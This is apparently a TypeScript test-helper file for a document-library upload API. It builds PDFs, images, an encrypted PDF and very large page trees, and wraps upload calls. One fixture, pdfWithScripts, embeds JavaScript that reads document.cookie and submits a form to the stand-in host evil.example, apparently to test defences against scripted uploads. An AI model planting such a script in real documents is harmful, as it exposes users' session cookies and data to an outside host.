import { PDFDocument, StandardFonts } from '@cantoo/pdf-lib';
import type { LibraryItemDetails } from '@quad/contract/library/library';
import sharp from 'sharp';
import type { Answer, TestContext, TestPerson } from './context.ts';

/** A PDF with a line on each page. */
export async function pdfOf(...lines: readonly string[]): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (const line of lines) pdf.addPage([420, 595]).drawText(line, { x: 30, y: 500, size: 14, font });
  return pdf.save();
}

/** A small picture, different for each number. */
export function pictureOf(number: number): Promise<Buffer> {
  const background = { r: number % 256, g: (number >> 8) % 256, b: 100 };
  return sharp({ create: { width: 30, height: 40, channels: 3, background } })
    .png()
    .toBuffer();
}

let made = 0;
/** A picture that nobody has uploaded yet. */
export const anyPicture = (): Promise<Buffer> => pictureOf(made++);

/** A PDF with a script that runs when it is opened. */
export async function pdfWithScripts(): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await pdfOf('Scripted notes'));
  pdf.addJavaScript('evil', 'app.alert(document.cookie); this.submitForm("https://evil.example")');
  return pdf.save();
}

/** A PDF of this many empty pages after one with text. */
export async function pdfOfPages(count: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await pdfOf('The first of many'));
  for (let page = 1; page < count; page++) pdf.addPage([200, 300]);
  return pdf.save();
}

/** A PDF of very many empty pages, written without a library: a hundred under each node of the tree. */
export function pdfOfManyPages(count: number): Buffer {
  const nodes = Math.ceil(count / 100);
  const kids = (first: number, length: number) =>
    Array.from({ length }, (_, index) => `${first + index} 0 R`).join(' ');
  const objects = ['<</Type /Catalog /Pages 2 0 R>>', `<</Type /Pages /Kids [${kids(3, nodes)}] /Count ${count}>>`];
  for (let node = 0; node < nodes; node++) {
    const length = Math.min(100, count - 100 * node);
    objects.push(`<</Type /Pages /Parent 2 0 R /Kids [${kids(3 + nodes + 100 * node, length)}] /Count ${length}>>`);
  }
  for (let page = 0; page < count; page++)
    objects.push(`<</Type /Page /Parent ${3 + Math.floor(page / 100)} 0 R /MediaBox [0 0 9 9]>>`);
  let pdf = '%PDF-1.4\n';
  const places = objects.map((object, index) => {
    const place = String(pdf.length).padStart(10, '0');
    pdf += `${index + 1} 0 obj ${object} endobj\n`;
    return `${place} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  return Buffer.from(
    `${pdf}${table}trailer <</Root 1 0 R /Size ${objects.length + 1}>>\nstartxref\n${pdf.length}\n%%EOF\n`,
  );
}

/** A PDF that needs a password. */
export const LOCKED_PDF = Buffer.from(`%PDF-1.4
1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj
4 0 obj <</Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}>>> endobj
trailer <</Root 1 0 R /Encrypt 4 0 R /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>] /Size 5>>
%%EOF
`);

/** Upload an item; returns the result of the call. */
export function tryUpload(
  quad: TestContext,
  as: TestPerson,
  file: Uint8Array | undefined,
  fields: Readonly<Record<string, string>> = {},
): Promise<Answer> {
  const body = new FormData();
  for (const [name, value] of Object.entries({ title: 'Notes', ...fields })) body.set(name, value);
  if (file) body.set('file', new Blob([new Uint8Array(file)]), 'notes.pdf');
  return quad.call('POST', '/api/library', { as, body });
}

/** Upload an item and return it. */
export async function uploadItem(...given: Parameters<typeof tryUpload>): Promise<LibraryItemDetails> {
  const { status, body } = await tryUpload(...given);
  if (status !== 201) throw new Error(`an upload answered ${status}: ${JSON.stringify(body)}`);
  return body.item;
}
